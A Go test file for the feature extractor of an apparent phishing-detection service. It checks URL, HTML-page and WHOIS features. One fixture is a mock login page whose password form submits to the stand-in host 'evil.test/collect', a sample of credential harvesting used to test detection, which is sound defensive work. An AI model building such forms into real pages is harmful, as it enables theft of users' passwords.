package services

import (
	"context"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/net/html"

	"phishscan/internal/domain/models"
)

func testRefs(t *testing.T) *ReferenceSets {
	t.Helper()
	// With no URLs configured the loader uses the built-in sets only.
	return LoadReferenceSets(context.Background(), RefDataConfig{}, testLogger())
}

func parseHTML(t *testing.T, body string) *html.Node {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(body))
	require.NoError(t, err)
	return doc
}

func featureIndex(t *testing.T, schema []string, name string) int {
	t.Helper()
	for i, n := range schema {
		if n == name {
			return i
		}
	}
	t.Fatalf("feature %q not in schema", name)
	return -1
}

func TestFeatureExtractor_AlwaysFullArity(t *testing.T) {
	schema := []string{"URLLength", "IsHTTPS", "NoSuchFeature", "AgeOfDomain"}
	e := NewFeatureExtractor(schema, testRefs(t), testLogger())

	tests := []struct {
		name   string
		rawURL string
		bundle *models.FetchBundle
	}{
		{"nil bundle", "https://example.com", nil},
		{"empty bundle", "https://example.com", &models.FetchBundle{}},
		{"empty url", "", nil},
		{"garbage url", "::::", nil},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			vec := e.Extract(tt.rawURL, tt.bundle)
			assert.Len(t, vec, len(schema))
		})
	}
}

func TestFeatureExtractor_UnknownFeatureYieldsZero(t *testing.T) {
	e := NewFeatureExtractor([]string{"NoSuchFeature"}, nil, testLogger())
	vec := e.Extract("https://example.com", nil)
	require.Len(t, vec, 1)
	assert.Equal(t, 0.0, vec[0])
}

func TestFeatureExtractor_LexicalFeatures(t *testing.T) {
	schema := []string{
		"URLLength", "DomainLength", "IsDomainIP", "IsHTTPS",
		"NoOfDigitsInURL", "NoOfEqualsInURL", "NoOfQMarkInURL",
		"NoOfSubDomain", "TLDLength",
	}
	e := NewFeatureExtractor(schema, nil, testLogger())

	rawURL := "https://pay.secure.example.com/login?id=42"
	vec := e.Extract(rawURL, nil)

	get := func(name string) float64 { return vec[featureIndex(t, schema, name)] }

	assert.Equal(t, float64(len(rawURL)), get("URLLength"))
	assert.Equal(t, float64(len("pay.secure.example.com")), get("DomainLength"))
	assert.Equal(t, 0.0, get("IsDomainIP"))
	assert.Equal(t, 1.0, get("IsHTTPS"))
	assert.Equal(t, 2.0, get("NoOfDigitsInURL"))
	assert.Equal(t, 1.0, get("NoOfEqualsInURL"))
	assert.Equal(t, 1.0, get("NoOfQMarkInURL"))
	assert.Equal(t, 2.0, get("NoOfSubDomain"))
	assert.Equal(t, 3.0, get("TLDLength"))
}

func TestFeatureExtractor_IPHost(t *testing.T) {
	schema := []string{"IsDomainIP", "IsHTTPS"}
	e := NewFeatureExtractor(schema, nil, testLogger())

	vec := e.Extract("http://192.168.1.10/admin", nil)
	assert.Equal(t, 1.0, vec[0])
	assert.Equal(t, 0.0, vec[1])
}

func TestFeatureExtractor_DOMFeatures(t *testing.T) {
	body := `<html><head>
		<title>Example Login</title>
		<link rel="icon" href="/favicon.ico">
		<meta name="description" content="sign in">
		<meta name="viewport" content="width=device-width">
	</head><body>
		<form action="https://evil.test/collect">
			<input type="password" name="pw">
			<input type="hidden" name="token">
			<input type="submit" value="Go">
		</form>
		<iframe src="a.html"></iframe>
		<img src="/a.png"><img src="https://cdn.other.test/b.png">
		<script src="/app.js"></script>
	</body></html>`

	bundle := &models.FetchBundle{
		InputURL:         "https://example.com/login",
		FinalURL:         "https://example.com/login",
		RegisteredDomain: "example.com",
		Body:             body,
		Doc:              parseHTML(t, body),
	}

	schema := []string{
		"HasTitle", "HasFavicon", "HasDescription", "IsResponsive",
		"HasPasswordField", "HasHiddenFields", "HasSubmitButton",
		"HasExternalFormSubmit", "NoOfiFrame", "NoOfImage", "NoOfJS",
		"LineOfCode",
	}
	e := NewFeatureExtractor(schema, nil, testLogger())
	vec := e.Extract(bundle.FinalURL, bundle)

	get := func(name string) float64 { return vec[featureIndex(t, schema, name)] }

	assert.Equal(t, 1.0, get("HasTitle"))
	assert.Equal(t, 1.0, get("HasFavicon"))
	assert.Equal(t, 1.0, get("HasDescription"))
	assert.Equal(t, 1.0, get("IsResponsive"))
	assert.Equal(t, 1.0, get("HasPasswordField"))
	assert.Equal(t, 1.0, get("HasHiddenFields"))
	assert.Equal(t, 1.0, get("HasSubmitButton"))
	assert.Equal(t, 1.0, get("HasExternalFormSubmit"))
	assert.Equal(t, 1.0, get("NoOfiFrame"))
	assert.Equal(t, 2.0, get("NoOfImage"))
	assert.Equal(t, 1.0, get("NoOfJS"))
	assert.Greater(t, get("LineOfCode"), 1.0)
}

func TestFeatureExtractor_WhoisFeatures(t *testing.T) {
	created := time.Now().AddDate(-2, 0, 0)
	expires := created.AddDate(5, 0, 0)

	bundle := &models.FetchBundle{
		FinalURL:         "https://example.com",
		RegisteredDomain: "example.com",
		Whois: &models.WhoisRecord{
			Domain:      "example.com",
			CreatedAt:   &created,
			ExpiresAt:   &expires,
			NameServers: []string{"ns1.example.com"},
		},
	}

	schema := []string{"AgeOfDomain", "DomainRegLen", "DNSRecording"}
	e := NewFeatureExtractor(schema, nil, testLogger())
	vec := e.Extract(bundle.FinalURL, bundle)

	assert.InDelta(t, 730, vec[0], 3)
	assert.Equal(t, 5.0, vec[1])
	assert.Equal(t, 1.0, vec[2])

	// Without WHOIS the features degrade to zero instead of failing.
	vec = e.Extract("https://example.com", &models.FetchBundle{FinalURL: "https://example.com"})
	assert.Equal(t, 0.0, vec[0])
	assert.Equal(t, 0.0, vec[1])
	assert.Equal(t, 0.0, vec[2])
}

func TestTLDLegitimateProb(t *testing.T) {
	refs := testRefs(t)

	assert.Equal(t, 0.1, tldLegitimateProb("xyz", refs))
	assert.Equal(t, 0.9, tldLegitimateProb("com", refs))
	assert.Equal(t, 0.8, tldLegitimateProb("com.br", refs))
	assert.Equal(t, 0.5, tldLegitimateProb("", refs))
	assert.Equal(t, 0.5, tldLegitimateProb("qzx", nil))
}

func TestCharContinuationRate(t *testing.T) {
	assert.Equal(t, 0.0, charContinuationRate(""))
	assert.Equal(t, 1.0, charContinuationRate("aaaa"))
	assert.InDelta(t, 4.0/8.0, charContinuationRate("abcd1234"), 1e-9)
}

func TestCountEncodedChars(t *testing.T) {
	assert.Equal(t, 0, countEncodedChars("https://example.com"))
	assert.Equal(t, 2, countEncodedChars("https://example.com/%20a%2Fb"))
	assert.Equal(t, 0, countEncodedChars("100%"))
	assert.Equal(t, 0, countEncodedChars("%zz"))
}

func TestSubdomainDepth(t *testing.T) {
	assert.Equal(t, 0, subdomainDepth("example.com", "example.com"))
	assert.Equal(t, 1, subdomainDepth("www.example.com", "example.com"))
	assert.Equal(t, 3, subdomainDepth("a.b.c.example.com", "example.com"))
	assert.Equal(t, 0, subdomainDepth("", "example.com"))
}
